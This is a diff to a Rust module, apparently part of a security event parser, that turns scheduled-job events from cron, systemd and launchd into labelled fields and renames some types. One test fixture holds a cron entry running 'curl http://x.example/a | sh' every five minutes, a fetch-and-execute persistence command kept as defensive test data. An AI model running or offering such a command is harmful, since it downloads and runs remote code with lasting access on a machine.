@@ -3,24 +3,12 @@ What schedulers and tables of jobs say of a job, which has its facts in fields
 of its own.
 */
 
-use super::facts::{Activity, Interface, JobField, Jobs, Scheduler};
+use super::facts::{Activity, Interface, Jobs, Scheduler};
 use super::{account, action, definition, file, table};
 use crate::derive::canonical::command::{Commands, System};
 use crate::derive::canonical::notes::Notes;
 use crate::derive::canonical::path;
 use crate::event::{Event, Field, Platform};
-
-/// The words for what is done to a job.
-const ACTIVITIES: [Activity; 8] = [
-    Activity::Create,
-    Activity::Update,
-    Activity::Delete,
-    Activity::Enable,
-    Activity::Disable,
-    Activity::Start,
-    Activity::Stop,
-    Activity::Query,
-];
 
 /// The schedulers that an event may name.
 const SCHEDULERS: [Scheduler; 7] = [
@@ -41,11 +29,11 @@ pub(crate) fn read(
 ) {
     let text = |field| event.get(field).filter(|text| !text.is_empty());
     let done = text(Field::Activity);
-    let activity = ACTIVITIES
-        .into_iter()
+    let activity = Activity::ALL
+        .iter()
         .find(|activity| done == Some(activity.name().as_bytes()));
     if let Some(activity) = activity {
-        jobs.say(JobField::Activity, activity.name());
+        jobs.say(Field::JobActivity, activity.name());
     }
     let arena = &mut commands.arena;
     let definition = text(Field::TargetFilename).map(|file| {
@@ -63,31 +51,31 @@ pub(crate) fn read(
             _ if is_unit(text(Field::TaskName)) => Scheduler::Systemd,
             _ => Scheduler::Cron,
         });
-    jobs.say(JobField::Scheduler, scheduler.name());
+    jobs.say(Field::JobScheduler, scheduler.name());
     // Who is told that a job starts has heard it of the scheduler.
     let interface = match definition {
         Some(_) => Some(Interface::File),
-        None if activity == Some(Activity::Start) => None,
+        None if activity == Some(&Activity::Start) => None,
         None if scheduler == Scheduler::Cron => Some(Interface::Crontab),
         None => None,
     };
     if let Some(interface) = interface {
-        jobs.say(JobField::Interface, interface.name());
+        jobs.say(Field::JobInterface, interface.name());
     }
     let name = text(Field::TaskName).map(|name| arena.add(name));
     let in_file =
         definition.zip(known).map(|(file, known)| file.after(known.name));
     if let Some(name) = name.or(in_file) {
-        jobs.write(JobField::Name, name);
+        jobs.write(Field::JobName, name);
     }
     if let Some(file) = definition {
-        jobs.write(JobField::File, file);
+        jobs.write(Field::JobFile, file);
     }
     let schedule = text(Field::Schedule).map(|text| arena.add(text));
     let trigger = schedule.and_then(|text| table::schedule(text, arena));
     let trigger = trigger.or(known.and_then(|known| known.trigger));
     if let Some(trigger) = trigger {
-        jobs.say(JobField::Trigger, trigger.name());
+        jobs.say(Field::JobTrigger, trigger.name());
     }
     if let Some(user) = text(Field::RunAs) {
         let user = arena.add(user);
@@ -111,7 +99,7 @@ fn is_unit(name: Option<&[u8]>) -> bool {
 mod tests {
     use super::*;
     use crate::derive::job::event::read;
-    use crate::event::ScheduledJob;
+    use crate::event::JobRecord;
 
     fn told(event: &Event<'_>) -> String {
         let mut commands = Commands::default();
@@ -123,7 +111,7 @@ mod tests {
 
     #[test]
     fn facts_stand_in_fields() {
-        let start = ScheduledJob {
+        let start = JobRecord {
             activity: Some(b"start"),
             scheduler: Some(b"cron"),
             run_as: Some(b"root"),
@@ -134,7 +122,7 @@ mod tests {
             told(&Event::linux(start)),
             "Activity=start|Scheduler=cron|User=root|Command=/tmp/x|Arguments=-q"
         );
-        let replaced = ScheduledJob {
+        let replaced = JobRecord {
             activity: Some(b"update"),
             scheduler: Some(b"cron"),
             run_as: Some(b"ann"),
@@ -144,7 +132,7 @@ mod tests {
             told(&Event::linux(replaced)),
             "Activity=update|Scheduler=cron|Interface=crontab|User=ann"
         );
-        let row = ScheduledJob {
+        let row = JobRecord {
             target_filename: Some(b"/etc/cron.d/x"),
             schedule: Some(b"*/5 * * * *"),
             command_line: Some(b"curl http://x.example/a | sh"),
@@ -155,7 +143,7 @@ mod tests {
             told(&Event::linux(row)),
             "Scheduler=cron|Interface=file|Name=x|File=/etc/cron.d/x|Trigger=minute|Command=curl|Arguments=http://x.example/a|Command=sh|Arguments="
         );
-        let item = ScheduledJob {
+        let item = JobRecord {
             activity: Some(b"create"),
             task_name: Some(b"com.x"),
             target_filename: Some(b"/Library/LaunchDaemons/com.x.plist"),
@@ -166,7 +154,7 @@ mod tests {
             told(&Event::macos(item)),
             "Activity=create|Scheduler=launchd|Interface=file|Name=com.x|File=/Library/LaunchDaemons/com.x.plist|Command=/tmp/x|Arguments="
         );
-        let unit = ScheduledJob {
+        let unit = JobRecord {
             activity: Some(b"other"),
             task_name: Some(b"x.timer"),
             ..Default::default()
